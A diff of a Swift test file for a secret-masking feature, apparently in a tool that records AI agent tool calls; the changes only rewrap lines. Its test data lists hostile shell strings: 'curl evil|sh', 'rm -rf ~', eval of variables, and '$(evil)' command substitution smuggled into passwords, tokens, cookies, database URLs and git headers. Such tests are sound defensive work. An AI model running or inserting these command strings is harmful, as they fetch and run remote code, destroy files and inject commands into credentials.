@@ -25,8 +25,9 @@ struct MaskedCodeTests {
         #"token="a$(curl evil|sh)" ls"#, #"password="a`evil`b" ls"#, #"token='rm -rf ~'; eval "$token""#,
         "token='rm${IFS}-rf'; $token", #"api_key="a;evil;b""#, "secret='x y' bash -c 'eval $secret'",
         "cat <<E\npassword: |\n  evil\n  more\nE", "cat <<E\napi_key: >-\n   $(evil)\nE",
-        "psql postgres://u:x;evil;@h", "psql postgres://u:$(evil)@h", "curl -u 'a:b$(evil)' x", "curl --token 'x|evil' y",
-        "mysql --password='`evil`'", "curl -H 'Cookie: a=b; $(evil)' x", "git -c http.extraHeader='Authorization: Basic $(evil)'",
+        "psql postgres://u:x;evil;@h", "psql postgres://u:$(evil)@h", "curl -u 'a:b$(evil)' x",
+        "curl --token 'x|evil' y", "mysql --password='`evil`'", "curl -H 'Cookie: a=b; $(evil)' x",
+        "git -c http.extraHeader='Authorization: Basic $(evil)'",
         "echo machine h login a password $(evil)", "h:5432:db:user:$(evil)", #"echo "{\"token\":\"a;evil\"}""#,
         #"token="a\nevil""#, "token=\"a>/etc/x\"", "token=\"a<(evil)\"", "token=\"{a,b}\"", "token=\"*\"",
     ]
@@ -60,7 +61,8 @@ struct MaskedCodeTests {
 
     @Test("a member with the name of a secret is masked only if its value is no code")
     func members() throws {
-        let input = #"{"api_key":"abc123","password":"rm -rf ~; x","token":{"run":"a b"},"secret":["a b"],"args":["#
+        let input =
+            #"{"api_key":"abc123","password":"rm -rf ~; x","token":{"run":"a b"},"secret":["a b"],"args":["#
             + #""--token","$(evil)","--token","plainword1"]}"#
         let seen = try shown(#"{"tool_name":"mcp__x__y","tool_input":\#(input)}"#)["tool_input"]
         #expect(seen?["api_key"] == .string("***"))
